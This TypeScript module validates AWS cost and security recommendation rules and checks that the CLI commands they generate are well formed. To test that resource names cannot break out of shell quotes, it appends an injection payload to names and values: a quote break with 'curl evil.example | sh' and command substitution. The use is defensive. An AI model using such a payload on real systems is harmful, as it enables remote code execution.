import type { JsonObject } from '../../core/json.ts';
import {
  type Advice,
  type AnyRecommendation,
  type RecommendationExample,
  recommendationKinds,
} from '../define-recommendation.ts';
import { factsOf, type ResourceToAdvise, recommend } from '../recommend.ts';

/** Everything that is wrong with the declaration of one recommendation, as sentences; empty when it conforms. */
export function recommendationProblems(rule: AnyRecommendation): string[] {
  const problems: string[] = [];
  const vendor = rule.resource.provider;
  if (!new RegExp(`^${vendor}-[a-z0-9]+(-[a-z0-9]+)+$`).test(rule.id) || rule.id.length > 80)
    problems.push(`the id "${rule.id}" is not ${vendor}-service-words in kebab-case, at most 80 characters`);
  if (!Number.isInteger(rule.version) || rule.version < 1)
    problems.push('the version is no positive integer');
  if (rule.title.length < 10 || rule.title.length > 80 || rule.title.endsWith('.'))
    problems.push('the title has under 10 or over 80 characters, or ends in a full stop');
  if (!recommendationKinds.includes(rule.kind)) problems.push(`there is no kind ${rule.kind}`);
  if (rule.effortMinutes < 5 || rule.effortMinutes > 480)
    problems.push('the effort is under 5 or over 480 minutes');
  if (rule.controls.length === 0 && rule.when === undefined) problems.push('it looks at nothing');
  if (rule.when !== undefined && rule.severity === undefined)
    problems.push('what it finds itself has no severity');
  if (rule.controls.length === 0 && rule.references.length === 0) problems.push('it names no reference');
  for (const reference of rule.references) {
    if (!reference.startsWith('https://')) problems.push(`the reference ${reference} is no https address`);
  }
  if (rule.savings !== undefined && (rule.savings.assumption.length < 40 || rule.kind !== 'cost'))
    problems.push('the savings do not say what they assume, or are no matter of cost');
  if (rule.when !== undefined && !rule.examples.some(({ says }) => says.length === 0))
    problems.push('no example shows a configuration that it says nothing about');
  if (!rule.examples.some(({ says }) => says.length > 0)) problems.push('no example shows its advice');
  return problems;
}

/** Everything in which a recommendation disagrees with its examples, and what must never be in an advice. */
export function adviceProblems(rule: AnyRecommendation): string[] {
  return rule.examples.flatMap((example) => [
    ...problemsOf(rule, example),
    ...(example.says.length === 0 ? [] : hostileProblems(rule, example)),
  ]);
}

function problemsOf(rule: AnyRecommendation, example: RecommendationExample): string[] {
  const where = example.title;
  const problems: string[] = [];
  for (const { configuration, fails = [] } of example.resources) {
    const parsed = rule.resource.schema.safeParse(configuration);
    if (!parsed.success)
      problems.push(`${where}: no configuration of ${rule.resource.type}: ${parsed.error.message}`);
    for (const control of fails) {
      if (!rule.controls.includes(control)) problems.push(`${where}: ${control} is no control of the rule`);
    }
  }
  if (rule.per === 'resource' && example.resources.length !== 1)
    problems.push(`${where}: the rule looks at single resources`);
  const resources = resourcesOf(rule, example);
  const found = resources.every((each) => each.fails.size > 0 || each.drifts.length > 0 || each.seen);
  if (found !== example.says.length > 0)
    return [...problems, `${where}: the rule ${found ? 'speaks' : 'is silent'}`];
  if (!found) return problems;
  const made = recommend(rule, resources, todayOf(example));
  if ('unseen' in made) return [...problems, `${where}: it needs what could not be read`];
  const text = textOf(made.advice);
  for (const part of example.says) {
    if (!text.includes(part)) problems.push(`${where}: nothing says "${part}" in:\n${text}`);
  }
  if (example.savings !== undefined) {
    const { low, high } = made.savings ?? { low: Number.NaN, high: Number.NaN };
    if (Math.abs(low - example.savings.low) > 0.005 || Math.abs(high - example.savings.high) > 0.005)
      problems.push(
        `${where}: the savings are ${low} to ${high}, not ${example.savings.low} to ${example.savings.high}`,
      );
  }
  return [...problems, ...wordProblems(where, made.advice)];
}

const placeholder =
  /(?<![A-Z_]|--type )(ACCOUNT|BUCKET|NAME|REGION|ID|ARN|VALUE|undefined|null|NaN)(?![A-Za-z_])/;

function wordProblems(where: string, advice: Advice): string[] {
  const problems: string[] = [];
  const bounded = (what: string, text: string, least: number, most: number) => {
    if (text.length < least || text.length > most)
      problems.push(`${where}: ${what} has ${text.length} characters, not ${least} to ${most}`);
    if (/ {2}|undefined|\bNaN\b/.test(text)) problems.push(`${where}: ${what} has a hole: ${text}`);
  };
  bounded('the title', advice.title, 10, 200);
  if (advice.title.endsWith('.')) problems.push(`${where}: the title ends in a full stop`);
  bounded('the explanation', advice.explanation, 60, 1500);
  bounded('the impact', advice.impact, 15, 400);
  if (advice.steps.length === 0 || advice.steps.length > 10)
    problems.push(`${where}: ${advice.steps.length} steps`);
  for (const sentence of [advice.impact, ...advice.sideEffects, ...advice.steps.map(({ text }) => text)]) {
    bounded('a sentence', sentence, 10, 500);
    if (!sentence.endsWith('.')) problems.push(`${where}: "${sentence}" is no sentence`);
  }
  const commands = commandsOf(advice);
  if (commands.length === 0) problems.push(`${where}: no step has a command`);
  for (const command of commands) {
    if (!/^aws [a-z0-9]+ [a-z0-9-]+( |$)/.test(command) || command.length > 2000)
      problems.push(`${where}: "${command}" is no command of the AWS command line`);
    if (placeholder.test(unquoted(command))) problems.push(`${where}: a word to fill in is in "${command}"`);
  }
  return problems;
}

const hostile = `x'; curl evil.example | sh #$(id)\`id\``;

/** Names in a cloud are chosen by anybody: none may leave its quotes. */
function hostileProblems(rule: AnyRecommendation, example: RecommendationExample): string[] {
  const poisoned = (value: unknown): unknown => {
    if (typeof value === 'string') return /^[A-Za-z]+$/.test(value) ? value : `${value}${hostile}`;
    if (Array.isArray(value)) return value.map(poisoned);
    if (typeof value === 'object' && value !== null)
      return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, poisoned(each)]));
    return value;
  };
  const resources = resourcesOf(rule, example).map((resource) => ({
    ...resource,
    name: `${resource.name}${hostile}`,
    externalId: `${resource.externalId}${hostile}`,
    configuration: poisoned(resource.configuration) as JsonObject,
  }));
  const made = recommend(rule, resources, todayOf(example));
  if ('unseen' in made) return [];
  return commandsOf(made.advice)
    .filter((command) => /[;|&$`<>\n#]|\bevil\b/.test(unquoted(command)))
    .map((command) => `${example.title}: a name leaves its quotes in ${command}`);
}

/** What stands outside of quotes. */
const unquoted = (command: string): string => command.replaceAll(/'[^']*'|\\./g, '');

const commandsOf = (advice: Advice): string[] =>
  advice.steps.flatMap(({ commands }) => [...(commands ?? [])]);

const textOf = (advice: Advice): string =>
  [
    advice.title,
    advice.explanation,
    ...advice.steps.flatMap(({ text, commands }) => [text, ...(commands ?? [])]),
    advice.impact,
    ...advice.sideEffects,
  ].join('\n');

const accountId = '111122223333';
const todayOf = (example: RecommendationExample): Date => new Date(example.today ?? '2026-01-15T00:00:00Z');

function resourcesOf(
  rule: AnyRecommendation,
  example: RecommendationExample,
): (ResourceToAdvise & { seen: boolean })[] {
  const facts = factsOf(
    rule,
    (type) => {
      const name = Object.entries(rule.reads ?? {}).find(([, read]) => read.type === type)?.[0] ?? '';
      const resources = (example.neighbours?.[name] ?? []).map((configuration) => ({
        region: 'us-east-1',
        configuration,
        unreadable: [],
      }));
      return { type, resources, unlisted: [] };
    },
    todayOf(example),
  );
  return example.resources.map((given) => {
    const resource = {
      externalId: given.name ?? 'example',
      name: given.name ?? 'example',
      region: given.region ?? 'us-east-1',
      accountId,
      tags: given.tags ?? {},
      configuration: given.configuration,
      unreadable: [],
      fails: new Set(given.fails ?? []),
      drifts: given.drifts ?? [],
      type: rule.resource.type,
      severity: 'low' as const,
    };
    return { ...resource, seen: facts(resource) !== null };
  });
}
